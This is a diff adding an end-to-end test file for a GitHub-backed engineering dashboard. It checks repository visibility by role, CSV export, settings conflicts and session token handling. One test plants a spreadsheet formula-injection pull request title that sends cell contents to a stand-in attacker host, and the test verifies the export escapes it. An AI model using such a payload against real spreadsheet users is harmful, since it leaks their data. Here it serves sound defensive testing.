@@ -1,0 +1,260 @@
+import type { Page } from 'playwright-core';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { finishedWeek, isoWeekOf, shiftWeek } from '#shared/metrics/time-zone.ts';
+import { keys } from '#shared/store/keys.ts';
+import { updateSettings } from '#shared/store/settings.ts';
+import { readWeeklyMetrics } from '#shared/store/weekly-metrics.ts';
+import { signInAs, useBrowser } from '../support/browser.ts';
+import { useStackWithGitHub } from '../support/stack-with-github.ts';
+import { until } from '../support/until.ts';
+
+/**
+ * Who sees what, in a browser: GitHub decides. The organisation has three
+ * repositories — `core` (private), `site` (public), `ops` (private). The
+ * simulator's octo-collaborator is an outside collaborator on `site` only;
+ * octo-restricted is a member kept out of `core`; the admin owns it all.
+ */
+const installationId = 616;
+const github = useStackWithGitHub(
+  {
+    seed: 616,
+    installationId,
+    organisation: 'seers',
+    repositories: [
+      { name: 'core', pullRequests: 120 },
+      { name: 'site', pullRequests: 60 },
+      { name: 'ops', pullRequests: 40 },
+    ],
+  },
+  { daysBack: 0 },
+);
+const chrome = useBrowser();
+const url = (path: string) => `${github.harness.stack.url}/installations/${installationId}${path}`;
+const signedIn = (login: string) => signInAs(chrome.browser, github.harness.stack.url, login);
+const repository = (name: string) => {
+  const found = github.sim.dataset.repositories.find((repo) => repo.name === name);
+  if (!found) throw new Error(`no repository ${name}`);
+  return found;
+};
+const timeZone = 'UTC';
+
+beforeAll(async () => {
+  await github.installAndSync();
+  await github.harness.stack.rollUpNow(installationId);
+  const last = finishedWeek(new Date(), timeZone);
+  await until(async () =>
+    Boolean(await github.harness.get(keys.weeklyMetrics(installationId, last, 'team'))),
+  );
+}, 120_000);
+
+/** The weeks of the installation page's trends whose team figures cover a repository outside `seen`. */
+async function weeksCovering(outside: (repositoryId: number) => boolean): Promise<Set<string>> {
+  const last = finishedWeek(new Date(), timeZone);
+  const rows = await readWeeklyMetrics(
+    github.harness.table,
+    installationId,
+    shiftWeek(last, -11),
+    last,
+  );
+  return new Set(
+    rows
+      .filter((row) => row.scope === 'team' && (row.repositoryIds ?? []).some(outside))
+      .map((row) => row.week),
+  );
+}
+
+/** Everything of the installation a person can reach by URL, as text. */
+async function everythingShown(page: Page): Promise<string> {
+  const week = finishedWeek(new Date(), timeZone);
+  const parts: string[] = [];
+  for (const path of ['', `/weeks/${week}`, '/progress.json', '/pull-requests.csv']) {
+    const response = await page.request.get(url(path));
+    expect(response.status(), path).toBe(200);
+    parts.push(await response.text());
+  }
+  return parts.join('\n');
+}
+
+describe('who sees what on the dashboard', () => {
+  it('shows an outside collaborator their one public repository, nothing of the private ones, and no figure that covers them', async () => {
+    const { user, repository: site } = github.sim.collaborator;
+    expect(site?.name).toBe('site');
+    const page = await signedIn(user.login);
+    await page.getByRole('link', { name: 'seers' }).click();
+    await page.locator('[data-withheld]').first().waitFor();
+
+    const shown = await everythingShown(page);
+    expect(shown).toContain('seers/site');
+    expect(shown).not.toContain('seers/core');
+    expect(shown).not.toContain('seers/ops');
+    for (const hidden of [repository('core'), repository('ops')]) {
+      const typed = await page.goto(url(`/repositories/${hidden.id}`));
+      expect(typed?.status()).toBe(404);
+      expect(await page.content()).not.toContain(hidden.name);
+    }
+    expect((await page.goto(url(`/repositories/${site?.id}`)))?.status()).toBe(200);
+
+    // The week's team figures are shown only where they cover `site` alone (from the stored rows).
+    const withheld = await weeksCovering((id) => id !== site?.id);
+    expect(withheld.size).toBeGreaterThan(0);
+    await page.goto(url(''));
+    const bars = await page
+      .getByRole('img', { name: 'Pull requests merged per week' })
+      .locator('rect title')
+      .allTextContents();
+    expect(bars).toHaveLength(12);
+    for (const bar of bars) {
+      const week = `${new Date().getUTCFullYear() - (bar.startsWith('20') ? 0 : 0)}`;
+      const [name = '', value = ''] = bar.split(' merged: ');
+      expect(week).toBeTruthy();
+      if (withheld.has(name)) expect(value, name).toBe('—');
+    }
+    const last = finishedWeek(new Date(), timeZone);
+    if (withheld.has(last)) {
+      expect(await page.getByRole('region', { name: /^Headlines of/ }).count()).toBe(0);
+      expect(await page.getByRole('heading', { name: 'Delivery' }).count()).toBe(0);
+      expect(await page.getByRole('heading', { name: 'AI adoption' }).count()).toBe(0);
+    }
+    await page.context().close();
+  });
+
+  it('shows a member kept out of one private repository everything else', async () => {
+    const { user, withheld: core } = github.sim.restricted;
+    expect(core?.name).toBe('core');
+    const page = await signedIn(user.login);
+    await page.goto(url(''));
+    const shown = await everythingShown(page);
+    expect(shown).toContain('seers/site');
+    expect(shown).toContain('seers/ops');
+    expect(shown).not.toContain('seers/core');
+    expect((await page.goto(url(`/repositories/${core?.id}`)))?.status()).toBe(404);
+    expect((await page.goto(url(`/repositories/${repository('ops').id}`)))?.status()).toBe(200);
+    await page.context().close();
+  });
+
+  it('shows an owner every repository and every figure, with nothing held back', async () => {
+    const page = await signedIn(github.sim.admin.login);
+    await page.goto(url(''));
+    const shown = await everythingShown(page);
+    for (const name of ['core', 'site', 'ops']) expect(shown).toContain(`seers/${name}`);
+    expect(await page.locator('[data-withheld]').count()).toBe(0);
+    await page.getByRole('region', { name: /^Headlines of/ }).waitFor();
+    await page.context().close();
+  });
+
+  it('hands a title built to run in a spreadsheet over as text', async () => {
+    const hostile = '=HYPERLINK("https://evil.example/steal?c="&A1,"Open")';
+    const opened = await github.sim.activity.open('seers/site', { title: hostile });
+    await github.sim.activity.merge('seers/site', opened.number);
+    const week = isoWeekOf(new Date(), timeZone);
+    const page = await signedIn(github.sim.admin.login);
+    const csv = async () =>
+      (await page.request.get(url(`/pull-requests.csv?from=${week}&to=${week}`))).text();
+    await until(async () => (await csv()).includes('HYPERLINK'));
+    const line = (await csv()).split('\r\n').find((row) => row.includes('HYPERLINK'));
+    // By hand: csv-stringify prefixes the cell with ' and quotes it, doubling its quotes.
+    expect(line).toContain(`"'${hostile.replaceAll('"', '""')}"`);
+    await page.context().close();
+  });
+
+  it('refuses a settings form loaded before a recipient unsubscribed, so it cannot subscribe them again', async () => {
+    await updateSettings(github.harness.table, installationId, {
+      recipients: ['lead@seers.example', 'gone@seers.example'],
+    });
+    const admin = await signedIn(github.sim.admin.login);
+    await admin.goto(url('/settings'));
+    expect(await admin.getByLabel('Weekly digest recipients').inputValue()).toContain('gone@');
+
+    // Meanwhile the recipient follows their email's unsubscribe link.
+    const stored = await github.harness.get(keys.installation(installationId));
+    const { unsubscribeToken } = (
+      stored?.recipients as { email: string; unsubscribeToken: string }[]
+    ).find((recipient) => recipient.email === 'gone@seers.example') as { unsubscribeToken: string };
+    const unsubscribed = await fetch(
+      `${github.harness.stack.url}/unsubscribe/${installationId}/${unsubscribeToken}`,
+      { method: 'POST' },
+    );
+    expect(unsubscribed.status).toBe(200);
+
+    const saved = admin.waitForResponse((response) => response.request().method() === 'POST');
+    await admin.getByRole('button', { name: 'Save' }).click();
+    expect((await saved).status()).toBe(409);
+    expect(await admin.getByRole('alert').textContent()).toContain(
+      'The settings changed since this page was loaded',
+    );
+    const recipients = async () =>
+      (
+        (await github.harness.get(keys.installation(installationId)))?.recipients as {
+          email: string;
+        }[]
+      ).map((recipient) => recipient.email);
+    expect(await recipients()).toEqual(['lead@seers.example']);
+    // The form now shows the settings as they are; saving it keeps them so.
+    expect(await admin.getByLabel('Weekly digest recipients').inputValue()).toBe(
+      'lead@seers.example',
+    );
+    await admin.getByRole('button', { name: 'Save' }).click();
+    await admin.getByRole('status').waitFor();
+    expect(await recipients()).toEqual(['lead@seers.example']);
+    await admin.context().close();
+  });
+});
+
+describe('sessions', () => {
+  const sessions = async (login: string) =>
+    (await github.harness.scan()).filter(
+      (item) => String(item.pk).startsWith('SESSION#') && item.login === login,
+    );
+
+  it('keep the GitHub tokens sealed: no session item holds one in plain text', async () => {
+    const page = await signedIn(github.sim.admin.login);
+    const items = await sessions(github.sim.admin.login);
+    expect(items.length).toBeGreaterThan(0);
+    for (const item of items) {
+      expect(item).toHaveProperty('sealedTokens');
+      expect(JSON.stringify(item)).not.toMatch(/gh[ur]_/);
+    }
+    await page.context().close();
+  });
+
+  it('end when the person signs out, whatever the form carries, and when they sign in again', async () => {
+    const login = github.sim.restricted.user.login;
+    const page = await signedIn(login);
+    const [first] = await sessions(login);
+    // Signing in again in the same browser ends the session it had.
+    await page.goto(github.harness.stack.url);
+    await page.goto(`${github.harness.stack.url}/login`);
+    await page.getByRole('button', { name: login, exact: true }).click();
+    await page.waitForURL(`${github.harness.stack.url}/`);
+    const after = await sessions(login);
+    expect(after).toHaveLength(1);
+    expect(after[0]?.sessionId).not.toBe(first?.sessionId);
+
+    // A sign-out without its CSRF token still ends the session.
+    await page.request.post(`${github.harness.stack.url}/logout`, { form: {} });
+    expect(await sessions(login)).toHaveLength(0);
+    await page.goto(url(''));
+    expect(page.url()).toMatch(new RegExp(`^${github.sim.url}/login/oauth/authorize`));
+    await page.context().close();
+  });
+
+  // Last: they move the simulator's clock.
+  it("outlive GitHub's 8-hour token by refreshing it, and end when the refresh token has expired too", async () => {
+    const login = github.sim.admin.login;
+    const page = await signedIn(login);
+    const [before] = await sessions(login);
+    github.sim.advanceClock(9 * 3_600_000);
+    const response = await page.goto(url(''));
+    expect(response?.status()).toBe(200);
+    expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('seers');
+    const [after] = await sessions(login);
+    expect(after?.sealedTokens).not.toBe(before?.sealedTokens);
+
+    // GitHub's refresh tokens last six months: past that, the person signs in again.
+    github.sim.advanceClock(200 * 86_400_000);
+    await page.goto(url(''));
+    expect(page.url()).toMatch(new RegExp(`^${github.sim.url}/login/oauth/authorize`));
+    expect(await page.content()).not.toContain('seers/core');
+    await page.context().close();
+  });
+});
